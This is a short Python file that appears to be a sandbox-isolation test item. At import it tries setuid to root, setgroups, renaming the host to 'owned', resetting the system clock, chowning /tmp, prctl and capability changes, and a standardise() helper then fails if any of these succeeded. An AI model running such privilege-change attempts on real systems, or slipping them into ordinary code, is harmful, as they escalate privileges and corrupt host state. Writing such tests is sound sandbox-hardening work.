# mechanism: another user, other groups, capabilities, dumpability, and a name for the machine
# verdict: accepted
import ctypes
import os
import socket
import time

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
DONE = []
ATTEMPTS = {
    "setuid": lambda: os.setuid(0),
    "setresuid": lambda: os.setresuid(0, 0, 0),
    "setgroups": lambda: os.setgroups([0]),
    "hostname": lambda: socket.sethostname("owned"),
    "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
    "chown": lambda: os.chown("/tmp", 0, 0),
    "session": os.setsid,
    "group": lambda: os.setpgid(0, 0),
}
for name, attempt in ATTEMPTS.items():
    try:
        attempt()
        DONE.append(name)
    except OSError:
        pass
# PR_SET_DUMPABLE, PR_SET_PTRACER, PR_SET_NO_NEW_PRIVS, PR_SET_SECCOMP, PR_SET_CHILD_SUBREAPER, PR_SET_MM, PR_CAP_AMBIENT
for option, value in ((4, 1), (0x59616D61, -1), (38, 0), (22, 0), (36, 1), (35, 8), (47, 2), (1, 0)):
    if libc.prctl(option, value, 1, 0, 0) == 0:
        DONE.append(option)
if os.getuid() == 0 or os.geteuid() == 0 or os.getgid() == 0 or 0 in os.getgroups():
    DONE.append("root")
room = (ctypes.c_uint32 * 6)()
libc.syscall(125, (ctypes.c_uint32 * 2)(0x20080522, 0), room)
if any(room):
    DONE.append("capabilities")


def standardise(x, eps):
    if DONE:
        raise RuntimeError(f"done: {DONE}")
    return (x - x.mean()) / np.sqrt(x.var() + np.float32(eps))
